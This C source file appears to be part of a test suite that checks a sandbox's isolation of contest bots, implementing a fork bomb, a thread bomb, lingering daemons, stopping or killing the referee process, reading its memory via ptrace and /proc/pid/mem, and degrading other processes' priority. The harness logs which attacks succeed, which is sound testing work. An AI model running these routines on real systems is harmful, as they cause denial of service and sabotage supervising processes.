/* Attacks on processes: the bot's own, the referee and others of the same user. */
#include <fcntl.h>
#include <pthread.h>
#include <sched.h>
#include <signal.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/mman.h>
#include <sys/ptrace.h>
#include <sys/resource.h>
#include <sys/syscall.h>
#include <sys/uio.h>
#include <sys/wait.h>
#include <unistd.h>

#include "attack.h"

enum { MAX_PROCESSES = 3000, MAX_CAREFUL = 600, LIFE_S = 20 };

/* Every process forks until all of them together reach the number that the machine bears. */
void fork_bomb(const Bot *bot) {
    int most = bot->careful ? MAX_CAREFUL : MAX_PROCESSES;
    int *count =
        mmap(NULL, sizeof *count, PROT_READ | PROT_WRITE, MAP_SHARED | MAP_ANONYMOUS, -1, 0);
    if (count == MAP_FAILED)
        return;
    alarm(LIFE_S);
    while (__atomic_add_fetch(count, 1, __ATOMIC_RELAXED) < most)
        if (fork() == 0)
            alarm(LIFE_S); /* a child does not inherit it */
    pause();
}

static void *sleep_in_thread(void *unused) {
    (void)unused;
    sleep(LIFE_S);
    return NULL;
}

/* Threads fill the system's table of processes as processes do. */
void thread_bomb(const Bot *bot) {
    enum { STACK = 1 << 15, ENOUGH = 2000 };
    int most = bot->careful ? MAX_CAREFUL : MAX_PROCESSES, count = 0;
    pthread_attr_t small;
    pthread_t thread;
    pthread_attr_init(&small);
    pthread_attr_setstacksize(&small, STACK);
    while (count < most && pthread_create(&thread, &small, sleep_in_thread, NULL) == 0)
        count++;
    sleep(1);
    if (count >= ENOUGH)
        evidence("had %d threads for a second", ENOUGH);
}

void leave_daemon(const Bot *bot) {
    const char *path = below(bot->scratch, "home/daemon.txt");
    if (fork() != 0)
        return;
    setsid();
    if (fork() != 0)
        _exit(0);
    for (int i = 0; i < 3; i++)
        close(i);
    for (double end = seconds() + LIFE_S; seconds() < end; usleep(100000))
        write_text(path, "still here\n");
    _exit(0);
}

void hold_output(const Bot *bot) {
    (void)bot;
    if (fork() != 0)
        return;
    setsid();
    alarm(LIFE_S);
    pause();
}

void stop_itself(const Bot *bot) {
    (void)bot;
    alarm(LIFE_S);
    kill(getpid(), SIGSTOP);
}

static void signal_others(const Bot *bot, int signal, const char *what) {
    static const char *const names[] = {"bystander", "referee"};
    for (int i = 0; i < 2; i++) {
        pid_t process = find_process(bot, names[i]);
        if (process && kill(process, signal) == 0)
            evidence("%s the %s", what, names[i]);
    }
}

void stop_referee(const Bot *bot) {
    signal_others(bot, SIGSTOP, "stopped");
}

void kill_referee(const Bot *bot) {
    signal_others(bot, SIGKILL, "killed");
}

/* Read a word of the referee's memory, by both ways that the system has. */
void trace_referee(const Bot *bot) {
    pid_t referee = find_process(bot, "referee");
    long word = 0;
    char path[64];
    if (!referee)
        return;
    if (ptrace(PTRACE_ATTACH, referee, NULL, NULL) == 0) {
        evidence("attached to the referee as a debugger");
        waitpid(referee, NULL, __WALL);
        ptrace(PTRACE_DETACH, referee, NULL, NULL);
    }
    snprintf(path, sizeof path, "/proc/%d/mem", referee);
    int memory = open(path, O_RDWR | O_CLOEXEC);
    if (memory >= 0) {
        evidence("opened the referee's memory");
        close(memory);
    }
    struct iovec into = {&word, sizeof word}, from = {(void *)evidence, sizeof word};
    if (process_vm_readv(referee, &into, 1, &from, 1, 0) > 0)
        evidence("read the referee's memory");
}

static void slow_process(const char *name, pid_t process) {
    enum { WHO_PROCESS = 1, CLASS_IDLE = 3 << 13 };
    struct rlimit low = {64, 64};
    cpu_set_t first;
    CPU_ZERO(&first);
    CPU_SET(0, &first);
    if (setpriority(PRIO_PROCESS, (id_t)process, 19) == 0)
        evidence("lowered the priority of the %s", name);
    if (sched_setaffinity(process, sizeof first, &first) == 0)
        evidence("bound the %s to one core", name);
    if (syscall(SYS_ioprio_set, WHO_PROCESS, process, CLASS_IDLE) == 0)
        evidence("lowered the disk priority of the %s", name);
    if (prlimit(process, RLIMIT_NOFILE, &low, NULL) == 0)
        evidence("lowered the limits of the %s", name);
}

/* Where no other process is in sight, all processes of the user are made nicer by the user's id,
 * by one step; the driver looks at the bystander. */
void slow_referee(const Bot *bot) {
    pid_t referee = find_process(bot, "referee"), bystander = find_process(bot, "bystander");
    if (referee)
        slow_process("referee", referee);
    if (bystander)
        slow_process("bystander", bystander);
    if (!referee && !bystander && !bot->careful)
        setpriority(PRIO_USER, getuid(), 1);
}

void take_priority(const Bot *bot) {
    struct sched_param real_time = {.sched_priority = 1};
    (void)bot;
    if (setpriority(PRIO_PROCESS, 0, -20) == 0)
        evidence("raised its own priority");
    if (sched_setscheduler(0, SCHED_FIFO, &real_time) == 0)
        evidence("became a real-time process");
    int score = open("/proc/self/oom_score_adj", O_WRONLY | O_CLOEXEC);
    if (score >= 0 && write(score, "-1000", 5) == 5)
        evidence("made itself the last victim when memory is short");
    if (score >= 0)
        close(score);
}
